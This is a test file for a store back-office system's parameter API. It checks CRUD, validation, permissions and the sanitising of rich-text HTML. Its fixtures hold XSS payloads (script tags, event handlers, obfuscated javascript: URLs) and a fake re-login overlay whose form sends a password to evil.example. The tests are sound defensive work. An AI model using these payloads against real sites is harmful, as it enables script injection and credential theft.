import { type PageResult, type SysParam, sysParam } from '@backroom/contract';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { dataOf, expectRefused, startApp, type TestApp, testTargets } from '../../testing/harness.js';

type Id = { id: number };
type Department = { id: number; name: string };

const PASSWORD = 'pass-1234';

const HOSTILE = [
  '<h1>门店通知</h1><p>周末<b>八折</b>。</p>',
  '<script>alert("s")</script>',
  '<img src="x.png" onerror="alert(\'e\')">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(2)">upper</a>',
  '<a href="java&#x09;script:alert(3)">entity</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<div onclick="alert(4)" style="color:red">div</div>',
  '<svg onload="alert(5)"></svg>',
  '<a href="https://example.com/ok">safe link</a>',
].join('');

/** What must never come back from a rich-text parameter. */
function expectHarmless(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/alert\("s"\)/);
  expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:/i);
  expect(html).not.toMatch(/java\s*script/i);
  expect(html).not.toMatch(/<iframe/i);
  expect(html).not.toMatch(/<svg/i);
}

describe.each(testTargets())('sys/param on $name', (target) => {
  let t: TestApp;
  let admin: string;
  let nobody: string;

  async function addParam(body: Record<string, unknown>): Promise<number> {
    return dataOf(await t.post<Id>('/admin/base/sys/param/add', { name: 'p', ...body }, admin)).id;
  }
  const paramRow = (id: number) =>
    t.ctx.db.db.selectFrom('base_sys_param').selectAll().where('id', '=', id).executeTakeFirst();

  beforeAll(async () => {
    t = await startApp(target);
    admin = (await t.login()).token;
    const departments = dataOf(await t.post<Department[]>('/admin/base/sys/department/list', {}, admin));
    const departmentId = departments.find((d) => d.name === '财务部')?.id;
    dataOf(
      await t.post('/admin/base/sys/user/add', { username: 'param.nobody', password: PASSWORD, departmentId }, admin),
    );
    nobody = (await t.login('param.nobody', PASSWORD)).token;
    await addParam({ keyName: 'richNotice', name: '富文本公告', dataType: 1, data: HOSTILE });
    await addParam({
      keyName: 'plainScript',
      name: '字符串',
      dataType: 0,
      data: '<p>plain</p><script>alert(9)</script>',
    });
  });
  afterAll(async () => {
    await t?.stop();
  });

  it('adds, reads, updates and deletes a parameter, with dataType 0 by default', async () => {
    const id = await addParam({ keyName: 'shopHours', name: '营业时间', data: '09:00-22:00', remark: '门店' });
    expect(dataOf(await t.get<SysParam>('/admin/base/sys/param/info', { id }, admin))).toMatchObject({
      keyName: 'shopHours',
      name: '营业时间',
      data: '09:00-22:00',
      dataType: 0,
      remark: '门店',
    });
    dataOf(await t.post('/admin/base/sys/param/update', { id, data: '10:00-21:00' }, admin));
    expect((await paramRow(id))?.data).toBe('10:00-21:00');
    dataOf(await t.post('/admin/base/sys/param/delete', { ids: [id] }, admin));
    expectRefused(await t.get('/admin/base/sys/param/info', { id }, admin), 404);
  });

  it('keeps keyName unique with a 409, on add and on update', async () => {
    const id = await addParam({ keyName: 'uniqueKey' });
    const other = await addParam({ keyName: 'otherKey' });
    expectRefused(await t.post('/admin/base/sys/param/add', { keyName: 'uniqueKey', name: 'x' }, admin), 409);
    expectRefused(await t.post('/admin/base/sys/param/add', { keyName: 'storeNotice', name: 'seeded' }, admin), 409);
    expectRefused(await t.post('/admin/base/sys/param/update', { id: other, keyName: 'uniqueKey' }, admin), 409);
    dataOf(await t.post('/admin/base/sys/param/update', { id, keyName: 'uniqueKey', name: 'same key' }, admin));
    expect((await paramRow(other))?.keyName).toBe('otherKey');
  });

  it('requires keyName and name, and accepts only dataType 0, 1 or 2', async () => {
    expectRefused(await t.post('/admin/base/sys/param/add', { name: 'no key' }, admin), 400);
    expectRefused(await t.post('/admin/base/sys/param/add', { keyName: '', name: 'empty key' }, admin), 400);
    expectRefused(await t.post('/admin/base/sys/param/add', { keyName: 'noName' }, admin), 400);
    expectRefused(
      await t.post('/admin/base/sys/param/add', { keyName: 'badType', name: 'x', dataType: 3 }, admin),
      400,
    );
    for (const dataType of [0, 1, 2]) {
      const id = await addParam({ keyName: `type${dataType}`, dataType, data: 'x' });
      expect((await paramRow(id))?.dataType).toBe(dataType);
    }
  });

  it('a dataType-0 value that looks like JSON must be JSON', async () => {
    for (const data of ['{"maxDiscount":0.2', '[1, 2', '  {oops}']) {
      const reply = await t.post(
        '/admin/base/sys/param/add',
        { keyName: 'badJson', name: 'j', dataType: 0, data },
        admin,
        {
          language: 'en',
        },
      );
      expectRefused(reply, 400);
      expect(reply.body.message).toBe('Parameter format error: the data is not valid JSON');
    }
    const zh = await t.post('/admin/base/sys/param/add', { keyName: 'badJson', name: 'j', data: '{' }, admin);
    expect(zh.body.message).toBe('参数格式错误：不是有效的 JSON');
    const good = await addParam({ keyName: 'goodJson', data: '{"a":[1,2]}' });
    expectRefused(await t.post('/admin/base/sys/param/update', { id: good, data: '[1,' }, admin), 400);
    expect((await paramRow(good))?.data).toBe('{"a":[1,2]}');
    // Text that does not start like JSON, and rich text, are not checked.
    await addParam({ keyName: 'plainBrace', data: 'a {b' });
    await addParam({ keyName: 'richBrace', dataType: 1, data: '{not json' });
  });

  it('switching a parameter to dataType 0 checks the value it already holds', async () => {
    const id = await addParam({ keyName: 'switchType', dataType: 1, data: '{broken' });
    const reply = await t.post('/admin/base/sys/param/update', { id, dataType: 0 }, admin);
    expectRefused(reply, 400);
    expect((await paramRow(id))?.dataType).toBe(1);
  });

  it('page filters on dataType and searches name and keyName', async () => {
    const rich = dataOf(
      await t.post<PageResult<SysParam>>('/admin/base/sys/param/page', { dataType: 1, size: 100 }, admin),
    );
    expect(rich.list.length).toBeGreaterThan(0);
    expect(rich.list.every((p) => p.dataType === 1)).toBe(true);
    expect(rich.list.map((p) => p.keyName)).toContain('storeNotice');
    const byName = dataOf(await t.post<PageResult<SysParam>>('/admin/base/sys/param/page', { keyWord: '折扣' }, admin));
    expect(byName.list.map((p) => p.keyName)).toEqual(['discountRule']);
    const byKey = dataOf(
      await t.post<PageResult<SysParam>>('/admin/base/sys/param/page', { keyWord: 'DISCOUNTRU' }, admin),
    );
    expect(byKey.list.map((p) => p.keyName)).toEqual(['discountRule']);
    const notData = dataOf(
      await t.post<PageResult<SysParam>>('/admin/base/sys/param/page', { keyWord: 'maxDiscount' }, admin),
    );
    expect(notData.list).toEqual([]);
  });

  it('asks for a session (401) and for the permission (403)', async () => {
    expectRefused(await t.post('/admin/base/sys/param/page', {}), 401);
    expectRefused(await t.post('/admin/base/sys/param/page', {}, nobody), 403);
    expectRefused(await t.get('/admin/base/sys/param/html', { key: 'storeNotice' }), 401);
    expectRefused(await t.get('/admin/base/sys/param/html', { key: 'storeNotice' }, nobody), 403);
  });

  describe('html', () => {
    it('serves the seeded rich text as text/html, with and without a token', async () => {
      for (const reply of [
        await t.get('/admin/base/sys/param/html', { key: 'storeNotice' }, admin),
        await t.get('/admin/base/open/html', { key: 'storeNotice' }),
      ]) {
        expect(reply.status).toBe(200);
        expect(String(reply.headers['content-type'])).toMatch(/^text\/html/);
        expect(reply.raw).toContain('<p>欢迎使用 Backroom 门店后台。</p>');
      }
    });

    it('answers once: the server logs no second reply', async () => {
      // Every level: a handler that sends and then lets mount answer again is warned about ("Reply was already sent").
      const levels = ['fatal', 'error', 'warn', 'info', 'debug', 'trace'] as const;
      const spies = levels.map((level) => vi.spyOn(t.app.log, level));
      try {
        for (const reply of [
          await t.get('/admin/base/sys/param/html', { key: 'storeNotice' }, admin),
          await t.get('/admin/base/open/html', { key: 'storeNotice' }),
          await t.get('/admin/base/sys/param/html', { key: 'discountRule' }, admin),
        ]) {
          expect(reply.status).toBe(200);
        }
        const logged = spies.flatMap((spy) => spy.mock.calls.map((call) => JSON.stringify(call)));
        expect(logged).toEqual([]);
      } finally {
        for (const spy of spies) spy.mockRestore();
      }
    });

    it('never lets a script, an event handler or a javascript: URL through', async () => {
      for (const reply of [
        await t.get('/admin/base/sys/param/html', { key: 'richNotice' }, admin),
        await t.get('/admin/base/open/html', { key: 'richNotice' }),
      ]) {
        expect(reply.status).toBe(200);
        expect(String(reply.headers['content-type'])).toMatch(/^text\/html/);
        expectHarmless(reply.raw);
        // The harmless content survives.
        expect(reply.raw).toContain('<h1>门店通知</h1>');
        expect(reply.raw).toContain('<b>八折</b>');
        expect(reply.raw).toContain('href="https://example.com/ok"');
        expect(reply.raw).toContain('safe link');
      }
      const plain = await t.get('/admin/base/sys/param/html', { key: 'plainScript' }, admin);
      expect(plain.status).toBe(200);
      expect(plain.raw).toContain('<p>plain</p>');
      expectHarmless(plain.raw);
    });

    it('keeps no overlay: styles from an allow-list, no class, images only from our storage, a sandbox', async () => {
      const overlay = [
        '<div class="ant-modal-mask" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">',
        '<h2 style="color:#1677ff;text-align:center;position:absolute;transform:scale(2)">请重新登录</h2>',
        '<form action="https://evil.example/steal"><input name="password"></form>',
        '<img src="https://evil.example/login.png" alt="far">',
        '<img src="//evil.example/relative.png" alt="protocol-relative">',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
        '<img src="/upload/20261120/0f8fad5b-d9cb-469f-a165-70867728950e.png" alt="ours">',
        '<video src="https://evil.example/v.mp4" controls></video>',
        '<p style="background-image:url(https://evil.example/bg.png);font-weight:bold;z-index:3">',
        '<span style="color:red;font-size:16px">八折</span></p>',
        '</div>',
      ].join('');
      await addParam({ keyName: 'overlayNotice', name: '仿冒登录', dataType: 1, data: overlay });
      for (const reply of [
        await t.get('/admin/base/open/html', { key: 'overlayNotice' }),
        await t.get('/admin/base/sys/param/html', { key: 'overlayNotice' }, admin),
      ]) {
        expect(reply.status).toBe(200);
        const html = reply.raw;
        expect(html).not.toMatch(/position|z-index|transform|background-image|\btop:|\bwidth:100%/i);
        expect(html).not.toMatch(/class=/i);
        expect(html).not.toMatch(/<form|<input/i);
        expect(html).not.toContain('evil.example');
        expect(html).not.toContain('data:image');
        // What is harmless stays: the allowed styles, the text, our own image.
        expect(html).toContain('<h2 style="color:#1677ff;text-align:center">请重新登录</h2>');
        expect(html).toContain('<p style="font-weight:bold"><span style="color:red;font-size:16px">八折</span></p>');
        expect(html).toContain('<img src="/upload/20261120/0f8fad5b-d9cb-469f-a165-70867728950e.png" alt="ours" />');
        const policy = String(reply.headers['content-security-policy']);
        expect(policy).toMatch(/(^|; )sandbox( |;|$)/);
        expect(policy).not.toMatch(/allow-scripts|allow-same-origin|allow-forms/);
        expect(policy).toMatch(/(^|; )img-src 'self'(;|$)/);
        expect(policy).toMatch(/(^|; )media-src 'self'(;|$)/);
        expect(policy).toContain("default-src 'none'");
        expect(reply.headers['x-content-type-options']).toBe('nosniff');
      }
    });

    it('sanitises what an update writes, too', async () => {
      const id = await addParam({ keyName: 'laterRich', dataType: 1, data: '<p>ok</p>' });
      dataOf(
        await t.post('/admin/base/sys/param/update', { id, data: '<p>ok</p><img src=x onerror=alert(7)>' }, admin),
      );
      const reply = await t.get('/admin/base/open/html', { key: 'laterRich' });
      expect(reply.status).toBe(200);
      expectHarmless(reply.raw);
      expect(reply.raw).toContain('<p>ok</p>');
    });

    it('the open call serves rich text only; unknown keys are 404 and a key is required', async () => {
      expectRefused(await t.get('/admin/base/open/html', { key: 'discountRule' }), 404);
      expectRefused(await t.get('/admin/base/open/html', { key: 'plainScript' }), 404);
      expectRefused(await t.get('/admin/base/open/html', { key: 'noSuchKey' }), 404);
      expectRefused(await t.get('/admin/base/sys/param/html', { key: 'noSuchKey' }, admin), 404);
      expectRefused(await t.get('/admin/base/open/html', {}), 400);
      const json = await t.get('/admin/base/sys/param/html', { key: 'discountRule' }, admin);
      expect(json.status).toBe(200);
      expect(json.raw).toContain('maxDiscount');
    });
  });

  it('the html call needs its own permission, not only param page', async () => {
    expect(sysParam.perms.html).toBe('base:sys:param:html');
    const departments = dataOf(await t.post<Department[]>('/admin/base/sys/department/list', {}, admin));
    const menuId = dataOf(
      await t.post<Id>(
        '/admin/base/sys/menu/add',
        { name: 'param page only', type: 2, perms: sysParam.perms.page },
        admin,
      ),
    ).id;
    const roleId = dataOf(
      await t.post<Id>(
        '/admin/base/sys/role/add',
        { name: 'param reader', label: 'param-reader', menuIdList: [menuId] },
        admin,
      ),
    ).id;
    dataOf(
      await t.post(
        '/admin/base/sys/user/add',
        { username: 'param.reader', password: PASSWORD, departmentId: departments[0]?.id, roleIdList: [roleId] },
        admin,
      ),
    );
    const token = (await t.login('param.reader', PASSWORD)).token;
    expect((await t.post('/admin/base/sys/param/page', {}, token)).status).toBe(200);
    expectRefused(await t.get('/admin/base/sys/param/html', { key: 'storeNotice' }, token), 403);
    expectRefused(await t.post('/admin/base/sys/param/add', { keyName: 'nope', name: 'x' }, token), 403);
  });
});
